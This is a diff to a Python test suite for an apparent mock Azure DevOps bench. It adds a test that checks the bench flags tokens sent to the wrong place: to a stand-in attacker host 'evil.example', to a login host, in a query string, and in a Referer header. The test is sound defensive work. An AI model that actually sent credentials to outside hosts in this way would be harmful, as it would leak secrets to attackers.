@@ -478,6 +478,23 @@ def the_authority_is_a_directory_as_well(bench: Bench) -> None:
 # Records
 
 
+def a_secret_where_none_belongs_is_noted_for_good(bench: Bench) -> None:
+    token = bench.azure.add_token(ORGANIZATION)
+    before = len(bench.azure.misplaced())
+    bench.get("vssps.dev.azure.com", PROFILE, token)
+    same(bench.azure.misplaced()[before:], [])
+    bench.get("evil.example", "/page", token)
+    bench.get("login.microsoftonline.com", "/page", token)
+    bench.get("dev.azure.com", f"/contoso/x?y={token}")
+    with contextlib.closing(bench.connect("dev.azure.com")) as connection:
+        exchange(connection, "GET", "/contoso/z", headers={"Referer": f"https://{token}@x"})
+    bench.azure.clear_requests()
+    same(bench.azure.misplaced()[before:],
+         ["authorization of GET evil.example/page",
+          "authorization of GET login.microsoftonline.com/page",
+          "query of GET dev.azure.com/contoso/x", "Referer of GET dev.azure.com/contoso/z"])
+
+
 def evil_example_keeps_what_it_is_sent_without_its_text(bench: Bench) -> None:
     token = bench.azure.add_token(ORGANIZATION, name="leaked")
     headers = basic(token, "someone") | {"Cookie": f"t={token}"}
@@ -614,6 +631,7 @@ TESTS: tuple[Callable[[Bench], None], ...] = (
     bad_certificates_are_shown_by_switch_and_by_name,
     a_handshake_can_meet_silence,
     the_authority_is_a_directory_as_well,
+    a_secret_where_none_belongs_is_noted_for_good,
     evil_example_keeps_what_it_is_sent_without_its_text,
     the_client_hears_why_a_command_is_refused,
     the_command_line_reaches_the_same_switches,
